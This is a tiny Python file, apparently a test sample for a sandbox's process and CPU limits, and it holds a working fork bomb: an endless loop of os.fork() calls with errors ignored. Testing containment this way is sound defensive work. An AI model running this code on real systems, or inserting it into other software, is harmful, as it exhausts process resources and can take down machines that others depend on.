"""A fork bomb: contained by the process cap, stopped by the CPU limit of the tree."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
